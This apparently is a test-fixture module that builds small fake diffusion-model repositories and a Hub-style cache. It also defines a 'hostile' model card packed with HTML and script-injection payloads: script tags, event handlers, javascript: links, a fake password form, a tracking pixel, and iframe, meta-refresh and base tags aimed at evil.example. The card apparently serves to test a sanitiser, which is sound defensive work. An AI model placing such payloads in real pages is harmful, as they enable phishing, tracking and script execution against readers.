"""Repositories of models for a Hub of the tests: small ones, and a card that means harm."""

import json
import os
import shutil
from pathlib import Path

INDEX = {"_class_name": "DDPMPipeline", "scheduler": ["diffusers", "DDPMScheduler"],
         "unet": ["diffusers", "UNet2DModel"]}


def small_repo(root: Path, name: str, weights: bytes = b"w" * 1000, index=INDEX) -> Path:
    """A repository of the shape of a DDPM, with weights that nobody opens."""
    folder = root / name
    for part, config in (("unet", "config.json"), ("scheduler", "scheduler_config.json")):
        (folder / part).mkdir(parents=True)
        (folder / part / config).write_text("{}")
    (folder / "unet" / "diffusion_pytorch_model.safetensors").write_bytes(weights)
    (folder / "model_index.json").write_text(json.dumps(index))
    return folder


def cached_model(cache: Path, model: Path, name: str = "nobody/model") -> Path:
    """The folder of a model as the Hub's cache keeps it, links to blobs; gives its snapshot."""
    folder = cache / f"models--{name.replace('/', '--')}"
    snapshot = folder / "snapshots" / ("0" * 40)
    for file in filter(lambda file: file.is_file(), model.rglob("*")):
        blob = folder / "blobs" / f"{len(list(folder.glob('blobs/*'))):040}"
        blob.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(file, blob)
        link = snapshot / file.relative_to(model)
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(os.path.relpath(blob, link.parent))
    (folder / "refs").mkdir()
    (folder / "refs" / "main").write_text("0" * 40)
    return snapshot


HOSTILE_CARD = """---
license: mit
---
# Card
<script>document.title = 'owned'</script>
<form action="https://evil.example"><input name="password"><button>Log in</button></form>
<img src="images/own.png" onerror="document.title='owned'" alt="own">

![tracker](https://evil.example/pixel.gif?reader=1)

<img src="//evil.example/p.png"><img src="http://hub.example/eve/sd/resolve/main/p.png">
[click](javascript:alert(1)) <a href=" java&#9;script:alert(1)">a</a>
<a href="vbscript:x">b</a> <a href="data:text/html,<script>">c</a>
<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">
<style>* { display: none }</style><div style="position: fixed" id="stApp" class="cs-notice">d</div>
<svg onload="alert(1)"></svg><math><mi xlink:href="javascript:x">m</mi></math>
<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">
<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>

[docs](docs/use.md) and [elsewhere](https://ok.example/page)
"""
